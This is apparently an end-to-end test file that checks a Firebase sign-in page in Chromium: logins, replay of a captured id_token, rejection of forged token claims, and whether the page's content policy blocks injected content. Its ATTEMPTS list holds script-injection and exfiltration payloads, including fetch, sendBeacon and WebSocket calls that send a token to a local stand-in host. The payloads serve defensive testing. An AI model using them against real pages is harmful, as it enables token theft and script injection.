// Somebody logs in on the page for Firebase in Chromium, and the page's content policy allows nothing else.
//
//   node firebase.mjs SERVER
//
// The example `oauth` of the package `tests`. The vendor's script is a stub.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { Google, PROJECT } from '../firebase/google.mjs';
import { Application } from './application.mjs';
import { Chromium } from './chromium.mjs';
import { Program, scratch } from './processes.mjs';
import { walk } from './screen.mjs';

const [server] = process.argv.slice(2);
assert.ok(server, 'usage: node firebase.mjs SERVER');
const PASSWORD = 'correct horse battery';
const PERSON = { provider: 'Firebase' };

/** What a page must not reach: it notes who comes. */
const strangers = [];
const stranger = createServer((request, response) => {
    strangers.push(request.url);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', request.url.endsWith('.css') ? 'text/css' : 'text/javascript');
    response.end(request.url.endsWith('.js') ? 'window.strange = true' : '');
});
await new Promise(resolve => stranger.listen(0, '127.0.0.1', resolve));
const elsewhere = `http://127.0.0.1:${stranger.address().port}`;

const folder = scratch('firebase');
const google = await Google.start();
const program = new Program(server, ['--data', folder, '--firebase', PROJECT, google.url]);
const { url } = await program.said({ url: 'Listening on ' }, 'Control on ');
const { origin } = new URL(url);
const browser = await Chromium.start();

/** To the page on which people sign in. */
async function toThePage(app) {
    const { screen, pages } = await walk(browser, await app.ask(), PERSON);
    assert.deepEqual(pages, ['choice']);
    assert.ok(screen.url.startsWith(`${origin}/callback/firebase?state=`), screen.url);
    await browser.page.waitForSelector('#sign-in:not([hidden])', { timeout: 10_000 });
    return screen;
}

async function enter(email, password) {
    const { page } = browser;
    await page.type('#email', email);
    await page.type('#secret', password);
    await page.click('#password button');
}

/** Signs in; what comes after the page has posted. */
async function signIn(email) {
    const [response] = await Promise.all([browser.page.waitForNavigation(), enter(email, PASSWORD)]);
    return browser.look(response);
}

async function logsIn() {
    const app = await Application.start(url);
    google.seen.length = 0;
    await walk(browser, await app.ask(), PERSON, 'choice');
    assert.deepEqual(google.seen, [], 'nothing goes to Google before the click');
    app.provider.opened.length = 0;

    await toThePage(app);
    await enter('alice@example.com', 'wrong');
    await browser.page.waitForSelector('#message:not([hidden])');
    assert.match(await browser.page.$eval('#message', message => message.textContent), /password is wrong/);
    await browser.page.$eval('#email', field => (field.value = ''));

    // How the token travels.
    const posted = [];
    browser.page.on('request', request => request.method() === 'POST' && posted.push(request));
    const consent = await signIn('alice@example.com');
    const [sent] = posted.filter(request => request.url() === `${origin}/callback/firebase`);
    assert.match(new URLSearchParams(sent.postData()).get('id_token'), /^ey/);
    assert.ok(sent.headers().origin === origin);
    assert.ok(consent.url.startsWith(`${origin}/authorize`), consent.url);
    const kept = await browser.page.evaluate(async () => [
        localStorage.length,
        sessionStorage.length,
        await indexedDB.databases()
    ]);
    assert.deepEqual(kept, [0, 0, []], 'nothing of the sign-in stays in the browser');
    const { screen, pages } = await walk(browser, consent, PERSON);
    assert.deepEqual(pages, ['consent']);
    await app.finish(screen);
    assert.match(await app.whoami(), /scopes: notes:write$/);
    await app.close();
    return sent;
}

async function logsInWithGoogle() {
    await browser.fresh();
    const app = await Application.start(url);
    await toThePage(app);
    const [response] = await Promise.all([
        browser.page.waitForNavigation(),
        browser.page.click('[data-method="google.com"]')
    ]);
    const { screen } = await walk(browser, await browser.look(response), PERSON);
    await app.finish(screen);
    assert.match(await app.whoami(), /scopes: notes:write$/);
    await app.close();
}

/** Posts what the page has sent, from somewhere else and again. */
async function isNotTakenTwice(sent) {
    const answer = await fetch(sent.url(), {
        method: 'POST',
        headers: { Origin: origin, 'Content-Type': 'application/x-www-form-urlencoded' },
        body: sent.postData()
    });
    assert.equal(answer.status, 403, 'without the cookies of that browser');
    await browser.fresh();
    const app = await Application.start(url);
    await toThePage(app);
    const token = new URLSearchParams(sent.postData()).get('id_token');
    const [response] = await Promise.all([
        browser.page.waitForNavigation(),
        browser.page.evaluate(token => {
            document.querySelector('#result').elements.id_token.value = token;
            document.querySelector('#result').submit();
        }, token)
    ]);
    const screen = await browser.look(response);
    assert.equal(screen.status, 403, 'a token that was used');
    assert.deepEqual(app.arrived, []);
    await app.close();
}

async function isNotAdmitted() {
    await browser.fresh();
    const app = await Application.start(url);
    for (const [email, changes, why] of [
        ['eve@elsewhere.example', {}, /may not use this server/],
        ['eve@example.com', { email_verified: false }, /may not use this server/],
        ['eve@example.com', { aud: 'another-project' }, /did not say who you are/],
        ['eve@example.com', { auth_time: Math.floor(Date.now() / 1000) - 600 }, /did not say who you are/],
        ['eve@example.com', { firebase: { sign_in_provider: 'anonymous' } }, /did not say who you are/]
    ]) {
        google.changes = changes;
        await toThePage(app);
        const screen = await signIn(email);
        assert.equal(screen.status, 403);
        assert.match(screen.text, why);
        assert.deepEqual(app.arrived, []);
    }
    google.changes = {};
    await app.close();
}

/** Everything that an injected script might try: what is violated, and what would do it. */
const ATTEMPTS = [
    ['script-src-elem', ({ elsewhere }) => add('script', { src: `${elsewhere}/strange.js` })],
    ['script-src-elem', () => add('script', { src: '/strange.js' })],
    ['script-src-elem', ({ google }) => add('script', { src: `${google}/sdk/1.2.3/firebase-firestore.js` })],
    ['script-src-elem', () => add('script', { textContent: 'window.strange = true' })],
    ['script-src-elem', () => add('script', { textContent: 'window.strange = true', nonce: 'AAAAAAAAAAAAAAAAAAAAAA' })],
    ['script-src-elem', () => add('script', { src: 'data:text/javascript,window.strange=true' })],
    ['script-src-elem', ({ elsewhere }) => void import(`${elsewhere}/strange.js`).catch(() => {})],
    ['script-src-attr', () => add('img', {}).setAttribute('onclick', 'window.strange = true')],
    ['script-src', () => void setTimeout('window.strange = true', 0)],
    ['connect-src', ({ elsewhere }) => void fetch(`${elsewhere}/fetch`).catch(() => {})],
    ['connect-src', ({ elsewhere }) => navigator.sendBeacon(`${elsewhere}/beacon`, 'token')],
    ['connect-src', ({ elsewhere }) => new WebSocket(elsewhere.replace('http', 'ws'))],
    ['connect-src', () => void fetch('/token').catch(() => {})],
    ['img-src', ({ elsewhere }) => add('img', { src: `${elsewhere}/image` })],
    ['style-src-elem', ({ elsewhere }) => add('link', { rel: 'stylesheet', href: `${elsewhere}/strange.css` })],
    ['style-src-elem', () => add('style', { textContent: 'body { display: none }' })],
    ['frame-src', ({ elsewhere }) => add('iframe', { src: `${elsewhere}/frame` })],
    ['object-src', ({ elsewhere }) => add('object', { data: `${elsewhere}/object` })],
    ['media-src', ({ elsewhere }) => add('audio', { src: `${elsewhere}/audio` })],
    ['worker-src', ({ elsewhere }) => new Worker(URL.createObjectURL(new Blob([`fetch("${elsewhere}/worker")`])))],
    ['base-uri', ({ elsewhere }) => add('base', { href: elsewhere })]
];

/** What this attempt violates on the page that is open, or nothing within the time. */
function violation(attempt, milliseconds) {
    const code = `(async () => {
        const add = (tag, properties) =>
            document.body.appendChild(Object.assign(document.createElement(tag), properties));
        const violated = new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), { once: true });
            setTimeout(resolve, ${milliseconds}, null);
        });
        try { (${attempt})(${JSON.stringify({ elsewhere, google: google.url })}); } catch {}
        return violated;
    })()`;
    return browser.page.evaluate(code);
}

async function allowsNothingElse() {
    await browser.fresh();
    const app = await Application.start(url);
    await toThePage(app);
    assert.deepEqual(browser.violationsAt(origin), [], 'nothing until now');
    for (const [directive, attempt] of ATTEMPTS) {
        assert.equal(await violation(attempt, 5_000), directive, String(attempt));
    }
    assert.equal(await browser.page.evaluate(() => window.strange), undefined);
    assert.deepEqual(strangers, [], 'nothing got out');
    assert.notDeepEqual(browser.violationsAt(origin), []);
    // On a page without a policy they all would have.
    await browser.page.goto(`${app.redirect}`);
    app.arrived.length = 0;
    for (const [, attempt] of ATTEMPTS.slice(0, 1)) assert.equal(await violation(attempt, 500), null);
    assert.deepEqual(strangers, ['/strange.js']);
    assert.equal(await browser.page.evaluate(() => window.strange), true);
    await app.close();
}

async function scriptIsMissing() {
    await browser.fresh();
    await google.stop();
    const app = await Application.start(url);
    const { screen } = await walk(browser, await app.ask(), PERSON);
    assert.equal(screen.status, 200, screen.text);
    await browser.page.waitForSelector('#message:not([hidden])', { timeout: 20_000 });
    assert.match(await browser.page.$eval('#message', message => message.textContent), /could not be loaded/);
    await app.close();
}

try {
    const sent = await logsIn();
    await isNotTakenTwice(sent);
    await logsInWithGoogle();
    await isNotAdmitted();
    await allowsNothingElse();
    await scriptIsMissing();
    assert.doesNotMatch(program.log, / ERROR |panicked|eyJ/);
} catch (error) {
    console.error(`not ok: firebase\n${program.log.split('\n').slice(-20).join('\n')}`);
    throw error;
} finally {
    await browser.close();
    await program.stop();
}
console.log('Firebase, Chromium: ok');
process.exit(0);
